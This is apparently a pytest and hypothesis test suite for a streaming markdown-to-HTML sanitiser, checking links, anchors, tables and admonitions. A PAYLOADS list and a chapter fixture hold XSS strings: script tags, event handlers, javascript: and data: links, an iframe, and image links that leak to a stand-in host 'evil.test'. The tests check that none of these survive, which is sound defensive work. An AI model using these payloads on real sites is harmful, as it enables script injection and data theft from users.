import re
from html.parser import HTMLParser

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from server.config import ROOT
from server.corpus.chunk import chunks_of
from server.corpus.markdown import chapter_from
from server.markup import MAX_CHARS, StreamedMarkup, chapter_html, html_from

TAGS = {"p", "br", "hr", "strong", "em", "code", "pre", "blockquote", "ul", "ol", "li", "a"}
TAGS |= {"h1", "h2", "h3", "h4", "h5", "h6", "table", "thead", "tbody", "tr", "th", "td"}
PAYLOADS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "![x](https://evil.test/leak?q=1)",
    "![x][r]\n\n[r]: https://evil.test/leak",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt&colon;alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:x)",
    "[x](//evil.test)",
    "[x](/chapters/../api/everything)",
    "[x](/api/everything)",
    "[x](\\\\evil.test)",
    '[x](https://a.test "onmouseover=alert(1)")',
    "<javascript:alert(1)>",
    "<https://a.test/\"onclick='alert(1)'>",
    '```html" onload="alert(1)\n<b>\n```',
    "# <svg onload=alert(1)>",
    "| a |\n|---|\n| <iframe src=//evil.test> |",
    "<a href='https://a.test' id='main' name='x' style='position:fixed'>x</a>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<style>body{display:none}</style>",
    "<!-- --><form action=//evil.test><input name=q>",
    "a\u0000<b\u0000>",
    "`<script>`",
]


class Elements(HTMLParser):
    def __init__(self):
        super().__init__()
        self.found = []

    def handle_starttag(self, tag, attrs):
        self.found.append((tag, dict(attrs)))


def elements(html):
    parser = Elements()
    parser.feed(html)
    return parser.found


def unsafe(html):
    """Every element that must not be there, or carries what it must not."""
    allowed = {"a": {"href", "rel"}, "ol": {"start"}, "code": {"class"}}
    allowed |= {"th": {"class"}, "td": {"class"}}
    links = re.compile(r"https?://|mailto:|/chapters/(?!.*\.\./)")
    for tag, attrs in elements(html):
        if tag not in TAGS or set(attrs) - allowed.get(tag, set()):
            yield tag, attrs
        if not links.match(attrs.get("href") or "https://"):
            yield tag, attrs


def streamed(text, sizes):
    stream, blocks, at, n = StreamedMarkup(), [], 0, 0
    tails = []
    while at < len(text):
        size = sizes[n % len(sizes)]
        events = stream.push(text[at : at + size])
        at, n = at + size, n + 1
        blocks += [html for kind, html in events if kind == "block"]
        tails += [html for kind, html in events if kind == "tail"]
    blocks += [html for kind, html in stream.finish() if kind == "block"]
    return "".join(blocks), tails


def test_common_markdown_becomes_semantic_html():
    html = html_from("## A\n\nSome *soft* and **strong** `code`.\n\n- one\n- two\n")
    assert html == (
        "<h2>A</h2>\n<p>Some <em>soft</em> and <strong>strong</strong> <code>code</code>.</p>\n"
        "<ul>\n<li>one</li>\n<li>two</li>\n</ul>\n"
    )


def test_a_citation_marker_stays_text():
    assert html_from("It is so [1].") == "<p>It is so [1].</p>\n"


def test_a_citation_marker_cannot_be_turned_into_a_link_from_elsewhere():
    assert "<a" not in html_from("It is so [1].\n\n[1]: https://evil.test\n")


def test_links_out_are_marked_as_such():
    html = html_from("[x](https://a.test/b?c=d)")
    assert 'href="https://a.test/b?c=d" rel="noopener noreferrer nofollow"' in html


def test_links_to_a_passage_are_kept():
    assert 'href="/chapters/roads#p-sand-1a"' in html_from("[x](/chapters/roads#p-sand-1a)")


@pytest.mark.parametrize(
    "place", ["../x.md", "/api/sessions", "//evil.test", "/chapters/../x", "#a"]
)
def test_other_relative_links_become_their_text(place):
    assert html_from(f"[words]({place})") == "<p>words</p>\n"


def test_alignment_is_a_class():
    html = html_from("| a |\n|--:|\n| 1 |\n")
    assert '<td class="align-right">1</td>' in html and "style" not in html


def test_a_known_language_is_kept_and_an_unknown_one_not():
    assert 'class="language-sql"' in html_from("```sql\nselect 1\n```")
    assert "class" not in html_from("```main hidden\nx\n```").replace('class=""', "")


def test_text_beyond_the_limit_is_not_rendered():
    assert len(html_from("a" * (MAX_CHARS + 10))) == MAX_CHARS + len("<p></p>\n")


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_payload_becomes_markup(payload):
    assert list(unsafe(html_from(payload))) == []


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_prefix_of_a_payload_becomes_markup(payload):
    text = f"**a** {payload} | [b]({payload})\n\n- {payload}\n"
    for end in range(len(text)):
        assert list(unsafe(html_from(text[:end]))) == []


MARKDOWN = st.lists(
    st.sampled_from(
        ["a", "b c", "\n", "\n\n", "**", "*", "_", "`", "```\n", "~~~\n", "- ", "1. ", "2) ", "> "]
        + ["    ", "  ", "# ", "---\n", "===\n", "| x | y |\n", "|---|---|\n", "|", "[", "](", ")"]
        + [
            "[1]",
            "[a]: https://a.test\n",
            "\\",
            "<b>",
            "&amp;",
            "\r\n",
            "\r",
            "\x0c",
            "\u2028",
            "\0",
        ]
        + ["https://a.test", "![", "\t", "é", *PAYLOADS]
    ),
    max_size=40,
).map("".join)


@settings(max_examples=400, deadline=None)
@given(MARKDOWN, st.lists(st.integers(1, 9), min_size=1, max_size=6))
@example("a\r\nb\n\nc\n\nd\n\n", [1])
@example("| x |\n|---|\n| 1 |\n\nafter\n\nmore", [3])
@example("- a\n\n\n\n- b\n\npara\n\n", [1])
def test_finished_blocks_joined_are_the_whole_rendering(text, sizes):
    assert streamed(text, sizes)[0] == html_from(text)


@settings(max_examples=200, deadline=None)
@given(MARKDOWN)
def test_every_tail_is_safe(text):
    assert [bad for tail in streamed(text, [2])[1] for bad in unsafe(tail)] == []


def test_the_chapter_streams_to_the_same_html_within_the_limit():
    text = (ROOT / "corpus" / "chapter.md").read_text(encoding="utf-8")
    assert streamed(text, [3, 7, 5])[0] == html_from(text)


def test_a_finished_paragraph_is_shown_before_the_next_is():
    stream = StreamedMarkup()
    events = [
        event
        for piece in ("One.", "\n\n", "Two", " is", " on", " its\n")
        for event in stream.push(piece)
    ]
    events += [event for piece in ("way", " now", ".", "..") for event in stream.push(piece)]
    assert ("block", "<p>One.</p>\n") in events


def tail_of(text):
    stream = StreamedMarkup()
    events = [event for piece in (text, "", "", "", "") for event in stream.push(piece)]
    return events[-1]


def test_an_open_mark_is_held_back():
    assert tail_of("So **bol") == ("tail", "<p>So</p>\n")


def test_an_open_link_is_held_back():
    assert tail_of("See [the gu") == ("tail", "<p>See</p>\n")
    assert tail_of("See [the guide](https://a.te") == ("tail", "<p>See</p>\n")


def test_a_header_without_its_line_is_held_back():
    assert tail_of("Look:\n\n| a | b |\n|--") == ("tail", "")


def test_a_row_begun_is_held_back():
    assert tail_of("| a |\n|---|\n| 1 |\n| 2")[1].count("<tr>") == 2


def test_a_mark_that_never_closes_is_shown_at_last():
    assert "word word" in tail_of("So ** " + "word " * 100)[1]


def test_the_tail_is_empty_at_the_end():
    stream = StreamedMarkup()
    stream.push("Done.")
    assert stream.finish() == [("block", "<p>Done.</p>\n"), ("tail", "")]


CHAPTER = """# Roads & <b>Bridges</b>

## Sand <i>i</i>

Text with *marks* and [a way](../out.md).

!!! warning "Mind <this>"
    Careful.

???+ question "Ask"
    Why?

#### Diagram: Layers
<iframe src="javascript:alert(1)"></iframe>

<details><summary>Layers told</summary>

Kind: drawing
Top: stone

</details>

| A | B |
|---|---|
| 1 | 2 |

1. one
2. two
"""


def page():
    return chapter_html(chapter_from(CHAPTER, id="roads"))


def test_every_passage_has_its_anchor_in_reading_order():
    wanted = [f"p-{c.passage.id}" for c in chunks_of(chapter_from(CHAPTER, id="roads"))]
    ids = [attrs["id"] for _, attrs in elements(page()) if attrs.get("id", "").startswith("p-")]
    assert ids == wanted and len(ids) > 4


def test_headings_have_anchors_of_their_sections():
    assert '<h2 id="s-sand-i">Sand &lt;i&gt;i&lt;/i&gt;</h2>' in page()


def test_ids_are_unique():
    ids = [attrs["id"] for _, attrs in elements(page()) if "id" in attrs]
    assert len(set(ids)) == len(ids)


def test_an_admonition_is_an_aside_with_its_title():
    assert (
        '<aside class="admonition warning">\n<p class="admonition-title">Mind &lt;this&gt;</p>'
        in (page())
    )


def test_a_folded_admonition_is_details():
    assert '<details class="admonition question"><summary>Ask</summary>' in page()


def test_a_diagram_is_a_note_without_its_address():
    assert "Interactive diagram" in page() and "javascript" not in page()


def test_lines_broken_on_purpose_stay_broken():
    assert "Kind: drawing<br>\nTop: stone" in page()


def test_nothing_of_the_chapter_is_markup_but_what_we_make():
    own = {"div", "aside", "details", "summary", "p", "h1", "h2", "h4", "em", "br"}
    own |= {"table", "thead", "tbody", "tr", "th", "td", "ol", "li"}
    assert {tag for tag, _ in elements(page())} == own


def test_the_built_in_chapter_keeps_all_of_its_passages_words():
    text = (ROOT / "corpus" / "chapter.md").read_text(encoding="utf-8")
    chapter = chapter_from(text, id="career-transition-and-technical-leadership")
    html = chapter_html(chapter)
    assert html.count('<div class="passage"') == len(chunks_of(chapter))
    assert html.count("<table>") == 5 and html.count('<aside class="admonition') == 7
